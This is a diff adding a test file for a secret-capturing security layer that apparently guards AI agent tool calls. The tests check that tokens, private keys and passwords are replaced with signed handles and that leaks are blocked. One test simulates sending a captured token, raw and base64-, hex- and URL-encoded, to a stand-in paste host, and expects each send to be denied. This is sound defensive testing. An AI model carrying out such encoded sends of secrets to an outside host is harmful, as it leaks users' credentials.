@@ -1,0 +1,92 @@
+import { describe, expect, it } from 'vitest';
+import { HANDLE_DOMAIN, verifyRecordSignature } from '../../src/evidence/signing.js';
+import { StaticSecretStore } from '../../src/secrets/store.js';
+import { memoryKernel, PROFILES } from '../helpers/kernel.js';
+
+const TOKEN = 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB';
+const output = (text: string) => ({ content: [{ type: 'text', text }] });
+
+describe('Kernel.captureSecrets', () => {
+  it('replaces a token with a signed handle scoped to the server that produced it', () => {
+    const { kernel, sink } = memoryKernel();
+    const { content, handles } = kernel.captureSecrets(
+      output(`token: ${TOKEN} (rotate monthly)`),
+      'ci/get_config',
+    );
+    expect(handles).toHaveLength(1);
+    const handle = handles[0];
+    expect(handle?.scope).toEqual(['tool.invoke:ci/*']);
+    expect(verifyRecordSignature(HANDLE_DOMAIN, handle)).toBe(true);
+    expect(JSON.stringify(content)).toBe(
+      JSON.stringify(output(`token: ${handle?.id} (rotate monthly)`)),
+    );
+    const response = kernel.syscall({ kind: 'tool.response', target: 'ci/get_config', content });
+    expect(response.verdict).toBe('allow');
+    expect(response.labels).toContain('private');
+    expect(response.labels).not.toContain('secret');
+    kernel.close();
+    expect(sink.text()).not.toContain(TOKEN);
+    const open = sink.lines
+      .map((line) => JSON.parse(line))
+      .find((e) => e.syscall?.kind === 'secret.open');
+    expect(open.syscall.target).toBe('secret://captured/ci/get_config/1');
+  });
+
+  it('gives the same secret the same handle within one answer', () => {
+    const { kernel } = memoryKernel();
+    const { handles } = kernel.captureSecrets([TOKEN, `again ${TOKEN}`], 'ci/x');
+    expect(handles).toHaveLength(1);
+  });
+
+  it('replaces a whole private-key block, and only the value of a password line', () => {
+    const { kernel } = memoryKernel();
+    const pem =
+      '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\nBBBB\n-----END OPENSSH PRIVATE KEY-----';
+    const { content } = kernel.captureSecrets(
+      `key:\n${pem}\npassword = hunter2hunter2 # old`,
+      'fs/read_file',
+    );
+    expect(content).toMatch(
+      /^key:\nsecret_fd_[0-9a-f]{32}\npassword = secret_fd_[0-9a-f]{32} # old$/,
+    );
+  });
+
+  it('recognises the values of configured stores', () => {
+    const { kernel } = memoryKernel({
+      secretStores: [new StaticSecretStore({ 'secret://db/password': 'correct-horse-battery' })],
+    });
+    const { content, handles } = kernel.captureSecrets(
+      'dsn: postgres://app:correct-horse-battery@db/app',
+      'db/info',
+    );
+    expect(handles[0]?.target).toBe('secret://db/password');
+    expect(content).not.toContain('correct-horse-battery');
+  });
+
+  it('taints arguments that echo a seen secret, raw or encoded', () => {
+    const { kernel } = memoryKernel();
+    kernel.captureSecrets(output(TOKEN), 'ci/get_config');
+    for (const echo of [
+      TOKEN,
+      Buffer.from(TOKEN).toString('base64'),
+      Buffer.from(TOKEN).toString('hex').toUpperCase(),
+      encodeURIComponent(`x=${TOKEN}&y=1`),
+    ]) {
+      const send = kernel.syscall({
+        kind: 'network.send',
+        target: 'https://paste.example/new',
+        body: { data: echo },
+      });
+      expect([send.verdict, send.rule], echo).toEqual(['deny', 'deny-private-egress']);
+      expect(send.labels).toContain('secret');
+    }
+  });
+
+  it('leaves the secret in place when the policy will not open it, so the answer is refused', () => {
+    const { kernel } = memoryKernel({ policyPath: PROFILES[0] as string });
+    const { content, handles } = kernel.captureSecrets(output(TOKEN), 'docs/read_file');
+    expect(handles).toEqual([]);
+    const response = kernel.syscall({ kind: 'tool.response', target: 'docs/read_file', content });
+    expect([response.verdict, response.rule]).toEqual(['deny', 'deny-raw-secret-into-context']);
+  });
+});
